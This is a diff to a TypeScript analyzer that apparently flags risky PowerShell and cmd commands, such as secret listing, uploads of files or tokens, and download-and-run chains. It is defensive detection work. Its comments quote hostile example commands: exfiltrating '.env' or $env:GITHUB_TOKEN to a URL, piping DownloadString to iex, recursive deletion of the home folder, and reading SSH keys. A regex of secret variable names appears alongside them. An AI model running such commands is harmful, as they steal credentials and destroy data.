@@ -34,6 +34,7 @@ interface PsWord {
 const COUNTS = new Set(["measure-object", "measure", "out-null"]);
 const WHERE = new Set(["where-object", "where", "?"]);
 /** A name pattern that could select a secret's variable (`*TOKEN*`, `*`, `AWS_*`), or one with too few letters to tell. */
+import { SECRET_VAR } from "./secret-names.ts";
 const SECRETISH_NAME = /SECRET|TOKEN|PASS|KEY|PRIVATE|CREDENTIAL|AUTH|AWS|AZURE|GITHUB|GH_|NPM|OPENAI|ANTHROPIC|SESSION|COOKIE/i;
 
 /** `Where-Object Name -like 'DOTNET_*'` (or `-match '^NODE_'`, `Key -eq 'PATH'`): a filter of the environment on a plain name. */
@@ -451,6 +452,8 @@ function splatWords(w: PsWord, vars: Map<string, string>): PsWord[] {
   return out;
 }
 
+const CONDITIONAL = /^(?:if|elseif|while|until|switch)$/i;
+const CONDITION_VALUE = /^\(\s*(?:!|-not\s+)?\$[\w:{}]+(?:\s+-(?:eq|ne|gt|lt|ge|le|like|notlike|match|notmatch)\s+(?:'[^']*'|"[^"$]*"|\$null|\d+))?\s*\)$/i;
 /** `(Join-Path $HOME '.ssh/id_rsa')` -> its path, `(Split-Path $PWD)` -> the parent; other subexpressions stay unknown. */
 function joinPath(raw: string, vars: Map<string, string>, home: string, cwd: string): string | undefined {
   const split = /^\(\s*Split-Path\s+(?:-Path\s+)?(\S+)\s*\)$/i.exec(raw);
@@ -754,9 +757,13 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   // Subexpressions and script blocks run their contents.
   for (const w of each ? words.slice(1).map((x) => (/^\{/.test(x.raw) ? { ...x, raw: x.raw.replace(/\$(?:_|PSItem)(?:\.(?:FullName|Name|PSPath))?\b/g, `'${(listedDir ?? ".").replace(/\/+$/, "")}/*'`) } : x)) : words) {
     // `[void](Remove-Item ~ -Recurse -Force)`: a type cast before a parenthesised pipeline runs it all the same.
-    // (Either form ends with its bracket: a word ending otherwise is not tried against them.)
-    const last = w.raw.charCodeAt(w.raw.length - 1);
-    const m = last === 41 ? /^(?:\[[\w.]+(?:\[\])?\]\s*)*[$@]?\((.*)\)$/s.exec(w.raw) : last === 125 ? /^\{(.*)\}$/s.exec(w.raw) : null;
+    // `(Get-Content .env)[0]`, `(gc package.json | ConvertFrom-Json).version`: an index or a property of what the pipeline gives
+    // (`.Count` and `.Length` give a number, nothing of the content).
+    // (Either form starts with its bracket, a cast or a sigil: a word starting otherwise is not tried against them.)
+    const c0 = w.raw.charCodeAt(0);
+    const m = c0 === 40 || c0 === 91 || c0 === 36 || c0 === 64 ? /^(?:\[[\w.]+(?:\[\])?\]\s*)*[$@]?\((.*)\)(?:\[[\w$-]{1,32}\]|\.(?!(?:Count|Length)\b)\w{1,64}(?:\(\s*\))?)*$/is.exec(w.raw) : c0 === 123 ? /^\{(.*)\}$/s.exec(w.raw) : null;
+    // `if ($env:GITHUB_TOKEN) {..}`, `while (!$x)`: a condition that is only a variable (or its test) is consumed, not printed.
+    if (w === words[1] && CONDITIONAL.test(first.text) && CONDITION_VALUE.test(w.raw)) continue;
     if (m?.[1] !== undefined && !/^\(\s*(?:Join|Split)-Path\b/i.test(w.raw)) host.powershell(m[1], cwd, "powershell (...)");
   }
   // -WhatIf: PowerShell only says what it would do.
@@ -788,6 +795,13 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   // `(New-Object Net.WebClient).DownloadString(URL) | iex`: the text fetched is what the next stage gets.
   if (downloads) for (const m of line.matchAll(/\.Download(?:String|Data)\(\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? ""], [false, false], cwd, via, true));
+  // `(New-Object Net.WebClient).UploadFile(URL, '.env')`, `.UploadString(URL, $env:GITHUB_TOKEN)`: what the client sends.
+  for (const m of line.matchAll(/\.Upload(File|String|Data|Values)\(\s*['"]([^'"]+)['"]\s*,\s*(?:['"][A-Za-z]+['"]\s*,\s*)?([^)]{1,300})\)/gi)) {
+    const what = (m[3] ?? "").trim();
+    const file = /^file$/i.test(m[1] ?? "") ? windowsPath(what.replace(/^['"]|['"]$/g, ""), home) : undefined;
+    const args = file !== undefined ? ["-T", file] : ["-d", what.replace(/^'|'$/g, "")];
+    out.push(simple(["invoke-webrequest", m[2] ?? "", ...args], [false, false, false, file === undefined && what.startsWith("$")], cwd, via, true));
+  }
   // `(New-Object Net.WebClient).DownloadFile(URL, 'a.exe')`: a file downloaded, to be run later on the line.
   if (downloads) for (const m of line.matchAll(/\.DownloadFile\(\s*['"]([^'"]+)['"]\s*,\s*['"]([^'"]+)['"]/gi)) out.push(simple(["invoke-webrequest", m[1] ?? "", "-o", windowsPath(m[2] ?? "", home)], [false, false, false, false], cwd, via, true));
   const tainted = words.some((w) => /^\$\w+$/.test(w.raw) && vars.get(w.raw.slice(1).toLowerCase()) === DOWNLOADED);
@@ -983,6 +997,12 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   if (LIST.has(name)) {
     const named = paths.find((p) => /^env:\/?\w+$/i.test(p));
+    // `gci env:*TOKEN*`: every variable the pattern selects, with its value.
+    const selected = paths.find((p) => /^env:\/?[\w*?]*[*?][\w*?]*$/i.test(p));
+    if (selected !== undefined) {
+      if (SECRETISH_NAME.test(selected.slice(4)) || !/[A-Za-z]{2}/.test(selected.slice(4))) out.push(simple(["cat", "env:"], [false, false], cwd, via, true));
+      return out;
+    }
     if (paths.some((p) => /^env:\/?$/i.test(p))) out.push(simple(["env"], [false], cwd, via), simple(["cat", "env:"], [false, false], cwd, via, true));
     else if (named !== undefined) out.push(simple(["echo", `$${named.replace(/\//, "")}`], [false, true], cwd, via, true));
     else {
@@ -995,7 +1015,9 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
   }
   if (name === "write-output" || name === "write-host" || name === "echo" || name === "write") {
     const ws = rest.filter((w) => paramName(w) === undefined);
-    out.push(simple(["echo", ...ws.map((w) => (/^\$env:/i.test(w.raw) ? w.raw : psExpand(w, vars, home, cwd).text))], [false, ...ws.map((w) => /^\$/.test(w.raw) && !w.quoted)], cwd, via));
+    // `Write-Host "token: $env:GITHUB_TOKEN"`: a double-quoted string puts the variable's value in.
+    const inlined = (w: PsWord) => w.raw.startsWith('"') && SECRET_VAR.test(w.raw);
+    out.push(simple(["echo", ...ws.map((w) => (/^\$env:/i.test(w.raw) || inlined(w) ? w.raw : psExpand(w, vars, home, cwd).text))], [false, ...ws.map((w) => (/^\$/.test(w.raw) && !w.quoted) || inlined(w))], cwd, via));
     return out;
   }
   if (name === "set-content" || (name === "sc" && !/\.exe$/i.test(first.text)) || name === "out-file" || name === "add-content" || name === "ac") {
@@ -1025,7 +1047,11 @@ function psStatement(wordsIn: PsWord[], vars: Map<string, string>, cwd: string, 
     // `-Uri http://...` names the URL as a positional one does: what is requested, and from where.
     const uri = valueOf.get("uri");
     const url = uri !== undefined && !paths.includes(uri) ? [uri] : [];
-    out.push(simple(["invoke-webrequest", ...url, ...paths, ...sent, ...o], [false, ...url.map(() => false), ...pathDyn, ...sent.map(() => false), ...o.map(() => false)], cwd, via));
+    // `-Body $env:X` is what is sent; `-InFile f` is a file uploaded, as curl's `-T` says it.
+    const bodyArgs = [...(valueOf.has("body") ? ["-d", valueOf.get("body") ?? ""] : []), ...(valueOf.has("infile") ? ["-T", valueOf.get("infile") ?? ""] : [])];
+    // `iwr "https://x/?k=$env:GITHUB_TOKEN"`: the variable's value goes out in the URL.
+    for (const w of rest) if (w.raw.startsWith('"') && SECRET_VAR.test(w.raw) && /^"https?:\/\//i.test(w.raw)) bodyArgs.push(w.raw.slice(1, -1));
+    out.push(simple(["invoke-webrequest", ...url, ...paths, ...bodyArgs, ...o], [false, ...url.map(() => false), ...pathDyn, ...bodyArgs.map(() => false), ...o.map(() => false)], cwd, via));
     return out;
   }
   if (IEX.has(name)) {
@@ -1182,6 +1208,11 @@ export function readCmd(src: string, cwd: string, via: string[], host: WindowsHo
       continue;
     }
     if (c === '"') inQuote = !inQuote;
+    // `^|`, `^&`: cmd's escape makes the operator a character of the command's own arguments.
+    if (c === "^" && !inQuote) {
+      i++;
+      continue;
+    }
     if (i === src.length || (!inQuote && (c === "&" || c === "|"))) {
       const pipe = c === "|" && src[i + 1] !== "|";
       stages.push({ text: src.slice(start, i), pipe });
